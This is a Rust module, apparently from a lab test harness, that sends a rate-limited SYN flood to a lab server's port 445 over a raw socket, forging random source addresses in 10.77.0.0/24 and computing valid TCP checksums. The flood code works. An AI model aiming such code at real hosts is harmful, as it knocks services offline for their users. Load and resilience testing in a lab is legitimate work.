//! Sends a SYN flood from unused addresses.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};

use super::Field;
use crate::support::Rng;
use crate::support::lab::SERVER;

/// IPv4 header, TCP header, one option: maximum segment size.
const LENGTH: usize = 20 + 24;

/// SYNs, each from another port of 10.77.0.3 to 10.77.0.254, on the host's side. `per_second`: limit of the rate.
pub fn syn_flood(field: &Field, per_second: u32) -> io::Result<()> {
    // raw(7): the IP header is ours, its checksum the kernel's
    let socket = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(ipproto::RAW),
    )?;
    let server: Ipv4Addr = SERVER.parse().expect("an address");
    let to = SocketAddrV4::new(server, 0);
    let mut rng = Rng::named("SYN flood");
    let begin = Instant::now();
    let mut due_before = 0;
    while !field.over() {
        let due = begin.elapsed().as_micros() * u128::from(per_second) / 1_000_000;
        // SYNs that could not be sent in time are skipped
        for _ in due_before..due.min(due_before + 200) {
            let packet = syn(&mut rng, server);
            if sendto(&socket, &packet, SendFlags::DONTWAIT, &to).is_ok() {
                field.count(|counts| &counts.requests, 1);
            }
        }
        due_before = due;
        if begin.elapsed() > Duration::from_millis(200) {
            field.steady();
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    Ok(())
}

fn syn(rng: &mut Rng, server: Ipv4Addr) -> [u8; LENGTH] {
    let host = u8::try_from(3 + rng.below(252)).expect("a byte");
    let source = Ipv4Addr::new(10, 77, 0, host);
    let port = u16::try_from(1024 + rng.below(64_512)).expect("a port");
    let mut packet = [0; LENGTH];
    packet[0] = 0x45;
    packet[3] = LENGTH as u8;
    packet[8] = 64; // TTL
    packet[9] = 6; // TCP
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&server.octets());
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    packet[22..24].copy_from_slice(&445_u16.to_be_bytes());
    packet[24..28].copy_from_slice(&rng.bytes(4));
    packet[32] = 6 << 4; // data offset
    packet[33] = 2; // SYN
    packet[34..36].copy_from_slice(&64_240_u16.to_be_bytes());
    packet[40..44].copy_from_slice(&[2, 4, 0x05, 0xB4]); // MSS 1460
    // RFC 9293, 3.1: over the pseudo-header (addresses, protocol, length) and the segment
    let words = packet[12..].chunks(2);
    let mut sum: u32 = words
        .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])))
        .sum();
    sum += 6 + 24;
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    packet[36..38].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    packet
}
